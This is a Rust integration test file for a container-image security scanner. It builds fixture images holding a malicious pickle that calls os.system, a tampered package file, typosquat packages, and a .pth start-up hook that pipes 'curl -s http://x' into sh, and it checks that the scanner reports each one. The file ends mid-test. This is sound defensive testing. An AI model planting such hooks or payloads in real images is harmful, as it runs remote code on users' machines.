//! Container images end to end: OCI layouts (directory and tar), both `docker save` shapes, a
//! real registry (Debian's docker-registry, anonymous and htpasswd), whiteouts, digest
//! verification, bad input, and package vetting against a real local PEP 503 mirror of real wheels.

#![allow(
    clippy::format_push_string,
    clippy::print_stderr,
    clippy::items_after_statements,
    clippy::indexing_slicing
)]

mod common;

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use common::registry::{self, Registry};
use common::*;
use modelgate::engine::Status;
use modelgate::format::Format;
use modelgate::image::{self, ImageOptions};
use modelgate::packages::Allowlist;
use modelgate::{Engine, Report};

const PICKLE: &[u8] = b"cos\nsystem\n(S'true'\ntR.";

fn engine() -> Engine {
    Engine::with_defaults().expect("engine")
}

fn scan(target: &str) -> Report {
    scan_with(target, &ImageOptions::default(), None)
}

fn scan_with(target: &str, opts: &ImageOptions, allow: Option<&mut Allowlist>) -> Report {
    modelgate::run::scan(&engine(), &[target.into()], opts, allow).expect("scan")
}

fn clean_image() -> Image {
    image(vec![
        layer(
            Comp::Gzip,
            vec![
                Entry::Dir("etc".into()),
                file("etc/os-release", b"ID=test\n"),
                Entry::Symlink("bin".into(), "usr/bin".into()),
                file("usr/bin/tool", b"#!/bin/sh\necho hi\n"),
            ],
        ),
        layer(Comp::Zstd, vec![file("app/README.md", b"hello\n")]),
        layer(Comp::None, vec![file("app/config.json", b"{\"a\": 1}\n")]),
    ])
}

/// Lower layer ships a malicious pickle; the upper layer whites it out.
fn whiteout_image() -> Image {
    image(vec![
        layer(
            Comp::Gzip,
            vec![
                Entry::Dir("opt/model".into()),
                file("opt/model/evil.pkl", PICKLE),
                file("opt/model/notes.txt", b"x\n"),
            ],
        ),
        layer(Comp::Gzip, vec![file("opt/model/.wh.evil.pkl", b"")]),
    ])
}

fn record_for<'r>(
    r: &'r Report,
    inner_last: &str,
) -> Option<&'r modelgate::engine::ArtifactRecord> {
    r.artifacts
        .iter()
        .find(|a| a.location.inner.last().is_some_and(|l| l == inner_last))
}

#[test]
fn clean_layout_has_no_findings_and_every_layer_is_walked() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    let w = write_layout(&dir, &[clean_image()], "v1");
    let r = scan(dir.to_str().expect("utf8"));
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    let (_, _, layers, _) = w.manifests.first().expect("manifest");
    for l in layers {
        assert!(
            r.artifacts
                .iter()
                .any(|a| a.location.inner == ["linux/amd64", l.as_str()]
                    && a.status == Status::Expanded),
            "layer {l} not expanded"
        );
    }
    // every member of every layer was seen, with the image → platform → layer → path chain
    let readme = record_for(&r, "app/README.md").expect("README recorded");
    assert_eq!(
        readme.location.inner.first().map(String::as_str),
        Some("linux/amd64")
    );
    assert_eq!(r.exit_code(modelgate::Severity::Low), 0);
}

#[test]
fn whited_out_pickle_is_still_scanned_with_origin_chain() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    let w = write_layout(&dir, &[whiteout_image()], "v1");
    let r = scan(dir.to_str().expect("utf8"));
    let lower = w.manifests[0].2[0].clone();
    let rec = record_for(&r, "opt/model/evil.pkl").expect("deleted pickle still recorded");
    assert_eq!(
        rec.location.inner,
        [
            "linux/amd64".to_owned(),
            lower,
            "opt/model/evil.pkl".to_owned()
        ]
    );
    assert_eq!(rec.format, Format::Pickle);
}

/// Needs the pickle scanner (developed on another branch): the whited-out pickle is reported.
#[test]
fn whited_out_pickle_is_reported() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    write_layout(&dir, &[whiteout_image()], "v1");
    let r = scan(dir.to_str().expect("utf8"));
    assert!(
        r.findings.iter().any(|f| f.code.starts_with("pickle/")
            && f.location
                .inner
                .last()
                .is_some_and(|l| l == "opt/model/evil.pkl")),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.exit_code(modelgate::Severity::Low), 1);
}

#[test]
fn raw_single_file_layer_is_scanned_under_its_title() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    let mut img = image(vec![]);
    img.layers.push(Layer {
        entries: vec![],
        comp: Comp::None,
        raw: Some(("model.pkl".into(), PICKLE.to_vec())),
    });
    let w = write_layout(&dir, &[img], "v1");
    let r = scan(dir.to_str().expect("utf8"));
    let rec = record_for(&r, "model.pkl").expect("raw layer scanned");
    assert_eq!(rec.location.inner[1], w.manifests[0].2[0]);
    assert_eq!(rec.format, Format::Pickle);
}

#[test]
fn corrupted_layer_blob_is_a_critical_digest_mismatch() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    let w = write_layout(&dir, &[clean_image()], "v1");
    let layer = &w.manifests[0].2[2]; // the uncompressed layer: flip a byte of file content
    let p = dir
        .join("blobs/sha256")
        .join(layer.trim_start_matches("sha256:"));
    let mut b = std::fs::read(&p).expect("blob");
    let pos = b.windows(4).position(|x| x == b"\"a\":").expect("content");
    b[pos + 1] = b'b';
    std::fs::write(&p, b).expect("write");
    let r = scan(dir.to_str().expect("utf8"));
    let f = r
        .findings
        .iter()
        .find(|f| f.code == "image/digest-mismatch" && !f.evidence.contains_key("kind"))
        .expect("digest mismatch");
    assert_eq!(f.severity, modelgate::Severity::Critical);
    assert_eq!(f.location.inner, ["linux/amd64".to_owned(), layer.clone()]);
    // the diff_id check fires too
    assert!(r
        .findings
        .iter()
        .any(|f| f.evidence.get("kind").is_some_and(|k| k == "diff_id")));
    assert_eq!(r.exit_code(modelgate::Severity::Low), 1);
}

#[test]
fn bad_input_gets_clear_findings() {
    let t = tempfile::tempdir().expect("tmp");
    // truncated gzip layer (digest of the truncated bytes is correct: only decompression fails)
    let dir = t.path().join("trunc");
    let w = write_layout(&dir, &[clean_image()], "v1");
    let gz = &w.manifests[0].2[0];
    let p = dir
        .join("blobs/sha256")
        .join(gz.trim_start_matches("sha256:"));
    let b = std::fs::read(&p).expect("blob");
    let short = &b[..b.len() / 2];
    rewrite_blob(&dir, gz, short);
    let r = scan(dir.to_str().expect("utf8"));
    assert!(
        r.findings
            .iter()
            .any(|f| f.code == "image/malformed" && f.message.contains("gzip")),
        "{:#?}",
        r.findings
    );

    // missing blob
    let dir = t.path().join("missing");
    let w = write_layout(&dir, &[clean_image()], "v1");
    let l = &w.manifests[0].2[1];
    std::fs::remove_file(
        dir.join("blobs/sha256")
            .join(l.trim_start_matches("sha256:")),
    )
    .expect("rm");
    let r = scan(dir.to_str().expect("utf8"));
    assert!(r
        .findings
        .iter()
        .any(|f| f.code == "image/malformed" && f.message.contains("missing")));
    assert!(r
        .artifacts
        .iter()
        .any(|a| matches!(a.status, Status::Failed { .. })));

    // malformed manifest (valid digest, garbage JSON)
    let dir = t.path().join("badmanifest");
    let w = write_layout(&dir, &[clean_image()], "v1");
    rewrite_blob(
        &dir,
        &w.manifests[0].0,
        b"{\"schemaVersion\": 2, \"layers\": 5",
    );
    let r = scan(dir.to_str().expect("utf8"));
    assert!(r
        .findings
        .iter()
        .any(|f| f.code == "image/malformed" && f.message.contains("JSON")));
    assert_eq!(r.exit_code(modelgate::Severity::Low), 1);

    // oversized layer: the blob is larger than its descriptor says
    let dir = t.path().join("oversized");
    let w = write_layout(&dir, &[clean_image()], "v1");
    let l = w.manifests[0].2[1].clone();
    let p = dir
        .join("blobs/sha256")
        .join(l.trim_start_matches("sha256:"));
    let mut b = std::fs::read(&p).expect("blob");
    b.extend_from_slice(&[0u8; 4096]);
    std::fs::write(&p, b).expect("grow");
    let r = scan(dir.to_str().expect("utf8"));
    assert!(r.findings.iter().any(|f| f.code == "image/size-mismatch"));
}

/// Replaces a blob's bytes and rewrites every reference to its digest and size.
fn rewrite_blob(dir: &Path, old: &str, bytes: &[u8]) {
    let new = format!("sha256:{}", sha256_hex(bytes));
    let blobs = dir.join("blobs/sha256");
    let old_path = blobs.join(old.trim_start_matches("sha256:"));
    let old_len = std::fs::metadata(&old_path).expect("old").len();
    std::fs::remove_file(&old_path).expect("rm old");
    std::fs::write(blobs.join(new.trim_start_matches("sha256:")), bytes).expect("new blob");
    // fix references in JSON documents (manifests, index.json); their digests change in turn
    let mut pending = vec![(old.to_owned(), new, old_len, bytes.len() as u64)];
    while let Some((o, n, ol, nl)) = pending.pop() {
        for e in std::fs::read_dir(&blobs)
            .expect("blobs")
            .filter_map(Result::ok)
        {
            let b = std::fs::read(e.path()).expect("read");
            let Ok(s) = String::from_utf8(b) else {
                continue;
            };
            if !s.contains(&o) {
                continue;
            }
            let s2 = s
                .replace(
                    &format!("\"digest\":\"{o}\",\"size\":{ol}"),
                    &format!("\"digest\":\"{n}\",\"size\":{nl}"),
                )
                .replace(&o, &n);
            let d = format!("sha256:{}", sha256_hex(s2.as_bytes()));
            std::fs::remove_file(e.path()).expect("rm");
            std::fs::write(blobs.join(d.trim_start_matches("sha256:")), &s2).expect("w");
            pending.push((
                format!("sha256:{}", e.file_name().to_string_lossy()),
                d,
                s.len() as u64,
                s2.len() as u64,
            ));
        }
        let idx = std::fs::read_to_string(dir.join("index.json")).expect("index");
        let idx2 = idx
            .replace(
                &format!("\"digest\":\"{o}\",\"size\":{ol}"),
                &format!("\"digest\":\"{n}\",\"size\":{nl}"),
            )
            .replace(&o, &n);
        std::fs::write(dir.join("index.json"), idx2).expect("index");
    }
}

fn multi_platform() -> Vec<Image> {
    let mut arm = image(vec![layer(Comp::Gzip, vec![file("arch.txt", b"arm64\n")])]);
    arm.arch = "arm64".into();
    arm.variant = Some("v8".into());
    vec![
        image(vec![layer(Comp::Gzip, vec![file("arch.txt", b"amd64\n")])]),
        arm,
    ]
}

fn platforms(r: &Report) -> Vec<String> {
    let mut v: Vec<String> = r
        .artifacts
        .iter()
        .filter(|a| a.location.inner.last().is_some_and(|l| l == "arch.txt"))
        .filter_map(|a| a.location.inner.first().cloned())
        .collect();
    v.sort();
    v
}

#[test]
fn multi_platform_index_scans_every_platform_or_the_chosen_one() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    write_layout(&dir, &multi_platform(), "v1");
    let d = dir.to_str().expect("utf8");
    assert_eq!(platforms(&scan(d)), ["linux/amd64", "linux/arm64/v8"]);
    let opts = ImageOptions {
        platform: Some("linux/arm64".into()),
        ..ImageOptions::default()
    };
    assert_eq!(platforms(&scan_with(d, &opts, None)), ["linux/arm64/v8"]);
}

#[test]
fn layout_tar_and_docker25_tar_match_the_layout() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    let w = write_layout(&dir, &[whiteout_image()], "v1");
    let from_dir = scan(dir.to_str().expect("utf8"));
    let tar = t.path().join("layout.tar");
    tar_dir(&dir, &tar, &[]);
    let d25 = t.path().join("docker25.tar");
    docker25_tar(&dir, &w, &d25, "test/image:v1");
    for p in [&tar, &d25] {
        assert!(matches!(
            image::detect(p.to_str().expect("utf8")),
            Some(image::ImageTarget::Archive(_))
        ));
        let r = scan(p.to_str().expect("utf8"));
        assert_eq!(findings_summary(&r), findings_summary(&from_dir));
        let rec = record_for(&r, "opt/model/evil.pkl").expect("pickle recorded");
        assert_eq!(rec.location.inner[1], w.manifests[0].2[0]);
    }
}

#[test]
fn legacy_docker_save_tarball() {
    if !require(which("skopeo").is_some(), "skopeo") {
        return;
    }
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    let w = write_layout(&dir, &[whiteout_image()], "v1");
    let out = t.path().join("save.tar");
    registry::docker_archive(&dir, "v1", &out);
    let r = scan(out.to_str().expect("utf8"));
    assert_whiteout_payload_found(&r);
    let rec = record_for(&r, "opt/model/evil.pkl").expect("pickle recorded");
    // legacy layers are identified by their diff_id (uncompressed digest), verified on read
    assert_eq!(rec.location.inner[1], w.manifests[0].3[0]);
    assert_eq!(rec.location.inner[0], "linux/amd64");
}

#[test]
fn registry_anonymous_index_and_corrupted_blob() {
    if !registry::available() {
        return;
    }
    let reg = Registry::start(None);
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    let w = write_layout(&dir, &[whiteout_image()], "v1");
    reg.push_layout(&dir, "v1", "test/whiteout");
    let target = format!("oci://{}/test/whiteout:v1", reg.host());
    let r = scan(&target);
    assert_whiteout_payload_found(&r);
    let rec = record_for(&r, "opt/model/evil.pkl").expect("pickle recorded");
    assert_eq!(rec.location.path, target);
    assert_eq!(rec.location.inner[1], w.manifests[0].2[0]);

    // multi-platform index
    let mp = t.path().join("mp");
    write_layout(&mp, &multi_platform(), "v2");
    reg.push_layout(&mp, "v2", "test/multi");
    let target = format!("oci://{}/test/multi:v2", reg.host());
    assert_eq!(platforms(&scan(&target)), ["linux/amd64", "linux/arm64/v8"]);
    let opts = ImageOptions {
        platform: Some("linux/amd64".into()),
        ..ImageOptions::default()
    };
    assert_eq!(platforms(&scan_with(&target, &opts, None)), ["linux/amd64"]);

    // corrupt a stored layer blob: the registry serves other bytes under the same digest
    let upper = &w.manifests[0].2[1];
    let f = reg.blob_file(upper);
    let mut b = std::fs::read(&f).expect("stored blob");
    let last = b.len() - 1;
    b[last] ^= 0xff;
    std::fs::write(&f, b).expect("corrupt");
    let r = scan(&format!("oci://{}/test/whiteout:v1", reg.host()));
    assert!(
        r.findings
            .iter()
            .any(|f| f.code == "image/digest-mismatch"
                && f.severity == modelgate::Severity::Critical),
        "{:#?}",
        r.findings
    );

    // missing tag and unreachable registry: clear error, exit 2
    let bin = Command::cargo_bin("modelgate")
        .expect("bin")
        .args([
            "scan",
            "-f",
            "json",
            &format!("oci://{}/test/whiteout:nope", reg.host()),
        ])
        .output()
        .expect("run");
    assert_eq!(
        bin.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&bin.stdout)
    );
    assert!(String::from_utf8_lossy(&bin.stdout).contains("manifest"));
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("port")
        .port();
    let out = Command::cargo_bin("modelgate")
        .expect("bin")
        .args([
            "scan",
            "-f",
            "json",
            &format!("oci://127.0.0.1:{port}/x/y:z"),
        ])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).contains("failed"));
}

#[test]
fn registry_basic_auth_from_cli_and_docker_config() {
    if !registry::available() {
        return;
    }
    let reg = Registry::start(Some(("alice", "s3cret")));
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    write_layout(&dir, &[clean_image()], "v1");
    reg.push_layout(&dir, "v1", "private/clean");
    let target = format!("oci://{}/private/clean:v1", reg.host());
    let empty_cfg = t.path().join("nocreds");
    std::fs::create_dir_all(&empty_cfg).expect("dir");

    // --username + --password-stdin
    let ok = Command::cargo_bin("modelgate")
        .expect("bin")
        .env("DOCKER_CONFIG", &empty_cfg)
        .args([
            "scan",
            "-f",
            "json",
            "--username",
            "alice",
            "--password-stdin",
            &target,
        ])
        .write_stdin("s3cret\n")
        .output()
        .expect("run");
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stdout)
    );

    // wrong password: exit 2 with an authorization error
    let bad = Command::cargo_bin("modelgate")
        .expect("bin")
        .env("DOCKER_CONFIG", &empty_cfg)
        .args([
            "scan",
            "-f",
            "json",
            "--username",
            "alice",
            "--password-stdin",
            &target,
        ])
        .write_stdin("wrong\n")
        .output()
        .expect("run");
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stdout)
        .to_lowercase()
        .contains("authori"));

    // anonymous: refused
    let anon = Command::cargo_bin("modelgate")
        .expect("bin")
        .env("DOCKER_CONFIG", &empty_cfg)
        .args(["scan", "-f", "json", &target])
        .output()
        .expect("run");
    assert_eq!(anon.status.code(), Some(2));

    // credentials from a Docker config file
    let cfg = t.path().join("docker");
    std::fs::create_dir_all(&cfg).expect("dir");
    let auth = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode("alice:s3cret")
    };
    std::fs::write(
        cfg.join("config.json"),
        format!(
            "{{\"auths\": {{\"{}\": {{\"auth\": \"{auth}\"}}}}}}",
            reg.host()
        ),
    )
    .expect("config.json");
    let via_cfg = Command::cargo_bin("modelgate")
        .expect("bin")
        .env("DOCKER_CONFIG", &cfg)
        .args(["scan", "-f", "json", &target])
        .output()
        .expect("run");
    assert_eq!(
        via_cfg.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&via_cfg.stdout)
    );
}

/// The image used for vetting: real wheels installed as pip would, then tampered with.
fn packages_image(wheels: &Path) -> Image {
    let sp = "usr/lib/python3.11/site-packages";
    let mut base = install_wheel(&find_wheel(wheels, "six"), sp);
    base.extend(install_wheel(&find_wheel(wheels, "idna"), sp));
    base.extend(fake_dist(sp, "fastjsonx", "0.1.0", None)); // unvetted
    base.extend(fake_dist(sp, "pakcaging", "24.1", None)); // typosquat of packaging
    base.extend(fake_dist(sp, "reqeusts", "2.32.3", None)); // typosquat of requests
    base.extend(fake_dist(sp, "attrs", "19.1.0", None)); // vetted name, unvetted version
    base.extend(fake_dist(
        sp,
        "localtool",
        "1.0",
        Some("file:///src/localtool"),
    )); // direct url
    base.push(file(
        "opt/model/model.safetensors",
        b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ",
    ));
    base.push(file(
        "opt/model/requirements.txt",
        b"torch>=2\nnumpy==2.1.3\n",
    ));
    // a later layer modifies an installed file of a vetted package
    let tampered = file(
        &format!("{sp}/idna/core.py"),
        b"import os\nos.system('true')\n",
    );
    image(vec![
        layer(Comp::Gzip, base),
        layer(Comp::Gzip, vec![tampered]),
    ])
}

fn native_allowlist(dir: &Path) -> PathBuf {
    let p = dir.join("allow.toml");
    std::fs::write(
        &p,
        "allowlist-version = 1\n[[package]]\nname = \"requests\"\nversion = \"2.32.3\"\n[[package]]\nname = \"numpy\"\nversion = \"2.1.3\"\n[[package]]\nname = \"localtool\"\nversion = \"1.0\"\n",
    )
    .expect("allow.toml");
    p
}

fn mirror_wheels(wheels: &Path) -> Vec<PathBuf> {
    ["six", "idna", "packaging", "attrs"]
        .iter()
        .map(|p| find_wheel(wheels, p))
        .collect()
}

fn check_vetting(r: &Report) {
    let pkg = |n: &str| {
        r.packages
            .iter()
            .find(|p| p.name == n)
            .unwrap_or_else(|| panic!("{n} not inventoried: {:#?}", r.packages))
    };
    let codes_for = |n: &str| -> Vec<&str> {
        let mut v: Vec<&str> = r
            .findings
            .iter()
            .filter(|f| f.evidence.get("package").is_some_and(|p| p == n))
            .map(|f| f.code.as_str())
            .collect();
        v.sort_unstable();
        v.dedup();
        v
    };
    assert_eq!(pkg("six").vetting.as_deref(), Some("allowed"));
    assert_eq!(pkg("six").content.as_deref(), Some("matches-mirror"));
    assert!(codes_for("six").is_empty(), "{:?}", codes_for("six"));
    assert_eq!(pkg("idna").content.as_deref(), Some("tampered"));
    assert_eq!(
        codes_for("idna"),
        ["package/record-mismatch", "package/tampered"]
    );
    let tampered = r
        .findings
        .iter()
        .find(|f| f.code == "package/tampered")
        .expect("tampered");
    assert_eq!(tampered.severity, modelgate::Severity::Critical);
    assert!(tampered
        .location
        .inner
        .last()
        .is_some_and(|l| l.ends_with("idna/core.py")));
    assert_eq!(codes_for("fastjsonx"), ["package/unvetted"]);
    assert_eq!(
        codes_for("pakcaging"),
        ["package/lookalike", "package/unvetted"]
    );
    assert_eq!(
        codes_for("reqeusts"),
        ["package/lookalike", "package/unvetted"]
    );
    assert_eq!(codes_for("attrs"), ["package/version-not-allowed"]);
    assert_eq!(codes_for("localtool"), ["package/direct-url"]);
    assert!(has(r, "package/unpinned-requirement"));
    assert!(has(r, "package/unhashed-requirement"));
    assert!(r
        .packages
        .iter()
        .any(|p| p.name == "torch" && p.kind == modelgate::packages::PackageKind::Declared));
}

#[test]
fn packages_are_vetted_against_a_local_mirror_of_real_wheels() {
    let Some(wheels) = wheels_dir() else {
        require(
            false,
            "MODELGATE_WHEELS (run tests/real_models/fetch_wheels.sh)",
        );
        return;
    };
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    write_layout(&dir, &[packages_image(&wheels)], "v1");
    let simple = build_mirror(&t.path().join("mirror"), &mirror_wheels(&wheels));
    let native = native_allowlist(t.path());
    let mut allow = Allowlist::load(&[simple.display().to_string(), native.display().to_string()])
        .expect("allowlist");
    let r = scan_with(
        dir.to_str().expect("utf8"),
        &ImageOptions::default(),
        Some(&mut allow),
    );
    check_vetting(&r);

    // the same through the CLI (packages subcommand, JSON), with the allowlist in modelgate.toml
    let cfg = t.path().join("modelgate.toml");
    std::fs::write(
        &cfg,
        format!(
            "[allowlist]\nsources = [\"mirror/simple\", \"{}\"]\n",
            native.display()
        ),
    )
    .expect("cfg");
    let out = Command::cargo_bin("modelgate")
        .expect("bin")
        .args(["packages", "-f", "json", "--config"])
        .arg(&cfg)
        .arg(&dir)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(1));
    let rep: Report = serde_json::from_slice(&out.stdout).expect("json report");
    check_vetting(&rep);
}

#[test]
fn packages_vetted_against_an_http_index_and_pulled_from_a_registry() {
    let Some(wheels) = wheels_dir() else {
        require(
            false,
            "MODELGATE_WHEELS (run tests/real_models/fetch_wheels.sh)",
        );
        return;
    };
    if !registry::available() {
        return;
    }
    let Some(python) = which("python3") else {
        require(false, "python3");
        return;
    };
    let t = tempfile::tempdir().expect("tmp");
    let mirror = t.path().join("mirror");
    build_mirror(&mirror, &mirror_wheels(&wheels));
    let port = common::free_port();
    let mut cmd = std::process::Command::new(python);
    cmd.args([
        "-m",
        "http.server",
        "--bind",
        "127.0.0.1",
        &port.to_string(),
    ])
    .current_dir(&mirror);
    let _server = common::start_server(cmd, port, || true);
    let reg = Registry::start(None);
    let dir = t.path().join("layout");
    write_layout(&dir, &[packages_image(&wheels)], "v1");
    reg.push_layout(&dir, "v1", "test/pkgs");
    let native = native_allowlist(t.path());
    let mut allow = Allowlist::load(&[
        format!("http://127.0.0.1:{port}/simple/"),
        native.display().to_string(),
    ])
    .expect("allowlist");
    let r = scan_with(
        &format!("oci://{}/test/pkgs:v1", reg.host()),
        &ImageOptions::default(),
        Some(&mut allow),
    );
    check_vetting(&r);
}

#[test]
fn allowlist_lockfile_formats_on_a_directory() {
    let t = tempfile::tempdir().expect("tmp");
    let sp = t.path().join("venv/lib/python3.11/site-packages");
    for e in fake_dist("", "six", "1.16.0", None)
        .into_iter()
        .chain(fake_dist("", "torch-vision", "0.1", None))
    {
        if let Entry::File(name, data) = e {
            let p = sp.join(name.trim_start_matches('/'));
            std::fs::create_dir_all(p.parent().expect("parent")).expect("dirs");
            std::fs::write(p, data).expect("write");
        }
    }
    let sources = [
        ("requirements.txt", "six==1.16.0 \\\n    --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254\ntorchvision==0.19.0 --hash=sha256:00\n"),
        ("pylock.toml", "lock-version = \"1.0\"\n[[packages]]\nname = \"six\"\nversion = \"1.16.0\"\n[[packages]]\nname = \"torchvision\"\nversion = \"0.19.0\"\n"),
        ("uv.lock", "version = 1\nrevision = 2\n[[package]]\nname = \"six\"\nversion = \"1.16.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n[[package]]\nname = \"torchvision\"\nversion = \"0.19.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n"),
    ];
    for (name, text) in sources {
        let p = t.path().join(name);
        std::fs::write(&p, text).expect("source");
        let out = Command::cargo_bin("modelgate")
            .expect("bin")
            .args(["packages", "-f", "json", "--allowlist"])
            .arg(&p)
            .arg(t.path().join("venv"))
            .output()
            .expect("run");
        assert_eq!(
            out.status.code(),
            Some(1),
            "{name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let rep: Report = serde_json::from_slice(&out.stdout).expect("json");
        let six = rep.packages.iter().find(|p| p.name == "six").expect("six");
        assert_eq!(six.vetting.as_deref(), Some("allowed"), "{name}");
        let codes: Vec<&str> = rep.findings.iter().map(|f| f.code.as_str()).collect();
        assert!(codes.contains(&"package/lookalike"), "{name}: {codes:?}");
        assert!(codes.contains(&"package/unvetted"), "{name}: {codes:?}");
    }
    // a broken allowlist is a usage/setup error, not an approval
    let bad = t.path().join("bad.toml");
    std::fs::write(&bad, "allowlist-version = 7\n").expect("bad");
    let out = Command::cargo_bin("modelgate")
        .expect("bin")
        .args(["packages", "--allowlist"])
        .arg(&bad)
        .arg(t.path().join("venv"))
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn cli_scans_layout_dir_and_reports_json() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    write_layout(&dir, &[whiteout_image()], "v1");
    let out = Command::cargo_bin("modelgate")
        .expect("bin")
        .args(["scan", "-f", "json"])
        .arg(&dir)
        .output()
        .expect("run");
    let rep: Report = serde_json::from_slice(&out.stdout).expect("json");
    assert!(rep.artifacts.iter().any(|a| a
        .location
        .inner
        .last()
        .is_some_and(|l| l == "opt/model/evil.pkl")));
    assert!(rep.artifacts.iter().any(|a| a.format == Format::ImageLayer));
}

#[test]
fn snapshot_of_image_findings() {
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    let w = write_layout(&dir, &[clean_image()], "v1");
    rewrite_blob(&dir, &w.manifests[0].2[0], b"\x1f\x8b\x08\x00truncated");
    let r = scan(dir.to_str().expect("utf8"));
    let findings: Vec<serde_json::Value> = r
        .findings
        .iter()
        .map(|f| {
            serde_json::json!({
                "code": f.code, "severity": f.severity, "inner": f.location.inner,
                "message": f.message,
            })
        })
        .collect();
    insta::assert_json_snapshot!("truncated_gzip_layer", findings);
}

/// The payload that an upper layer "deletes" still ships in the lower layer: it must be reported
/// (as os.system, critical) at its layer, and nothing else may be.
fn assert_whiteout_payload_found(r: &modelgate::Report) {
    assert!(
        r.findings.iter().all(|f| f.code == "pickle/unsafe-global"
            && f.location.inner.last().map(String::as_str) == Some("opt/model/evil.pkl")),
        "{:#?}",
        r.findings
    );
    assert!(r.findings.iter().any(|f| f
        .global
        .as_ref()
        .is_some_and(|g| g.module == "os" && g.name == "system")));
}

/// A later layer drops a `.pth` start-up hook that no package owns, next to a real wheel that
/// owns its files and virtualenv's own hook.
#[test]
fn orphan_startup_hook_in_a_later_layer_is_reported() {
    let Some(wheels) = common::wheels_dir() else {
        return;
    };
    let sp = "usr/local/lib/python3.12/site-packages";
    let mut base = install_wheel(&find_wheel(&wheels, "six"), sp);
    base.push(file(
        &format!("{sp}/_virtualenv.pth"),
        b"import _virtualenv\n",
    ));
    base.push(file(&format!("{sp}/paths.pth"), b"/opt/app/src\n"));
    let hook = file(
        &format!("{sp}/zz-init.pth"),
        b"/opt/app\nimport os; os.system('curl -s http://x | sh')\n",
    );
    let t = tempfile::tempdir().expect("tmp");
    let dir = t.path().join("layout");
    write_layout(
        &dir,
        &[image(vec![
            layer(Comp::Gzip, base),
            layer(Comp::Gzip, vec![hook]),
        ])],
        "v1",
    );
    let r = scan(dir.to_str().expect("utf8"));
    let hooks: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.code == "package/startup-hook")
        .map(|f| {
            (
                f.severity,
                f.location.inner.last().cloned().unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(
        hooks,
        vec![
            (modelgate::Severity::Info, format!("{sp}/_virtualenv.pth")),
            (modelgate::Severity::High, format!("{sp}/zz-init.pth")),
        ],
        "{:#?}",
        r.findings
    );
    let evil = r
        .findings
        .iter()
        .find(|f| f.severity == modelgate::Severity::High)
        .expect("hook finding");
    assert_eq!(
        evil.evidence.get("line").map(String::as_str),
        Some("import os; os.system('curl -s http://x | sh')")
    );
    assert_eq!(r.exit_code(modelgate::Severity::Low), 1);
}

/// The same vetting against a PEP 691 server that answers in JSON (tests/pep691_server.py
/// negotiates the content type from the Accept header, as PyPI and devpi do): project list,
/// project pages with file URLs and sha256 hashes, and wheel downloads for the content check.
#[test]
fn packages_vetted_against_a_pep691_json_index() {
    let Some(wheels) = wheels_dir() else {
        require(
            false,
            "MODELGATE_WHEELS (run tests/real_models/fetch_wheels.sh)",
        );
        return;
    };
    let Some(python) = which("python3") else {
        require(false, "python3");
        return;
    };
    let t = tempfile::tempdir().expect("tmp");
    let mirror = t.path().join("mirror");
    build_mirror(&mirror, &mirror_wheels(&wheels));
    let log = t.path().join("served.log");
    let port = common::free_port();
    let mut cmd = std::process::Command::new(python);
    cmd.arg(common::root().join("tests/pep691_server.py"))
        .arg(&mirror)
        .arg(port.to_string())
        .arg(&log);
    let _server = common::start_server(cmd, port, || true);
    let dir = t.path().join("layout");
    write_layout(&dir, &[packages_image(&wheels)], "v1");
    let native = native_allowlist(t.path());
    let mut allow = Allowlist::load(&[
        format!("http://127.0.0.1:{port}/simple/"),
        native.display().to_string(),
    ])
    .expect("allowlist");
    let r = scan_with(
        dir.to_str().expect("utf8"),
        &ImageOptions::default(),
        Some(&mut allow),
    );
    check_vetting(&r);
    let served = std::fs::read_to_string(&log).expect("server log");
    let json_pages = served
        .lines()
        .filter(|l| l.ends_with("application/vnd.pypi.simple.v1+json"))
        .count();
    assert!(
        served.contains("/simple/ application/vnd.pypi.simple.v1+json") && json_pages >= 3,
        "the index was not read as JSON:\n{served}"
    );
    assert!(
        served.contains(".whl application/octet-stream"),
        "no wheel was downloaded:\n{served}"
    );
}

/// Bearer-token auth as Docker Hub, GHCR and Harbor do it: the registry answers 401 with a
/// `Bearer realm=…` challenge, the client fetches a JWT from the token server with its
/// credentials, and retries with it (tests/token_server.py; skopeo pushes through the same flow).
#[test]
fn registry_bearer_token_auth() {
    if !registry::available() {
        return;
    }
    let Some(venv) = common::resource("MODELGATE_VENV", "venv") else {
        return;
    };
    let reg = Registry::start_token(&venv.join("bin/python"), "alice", "s3cret");
    let t = tempfile::tempdir().expect("tmp");
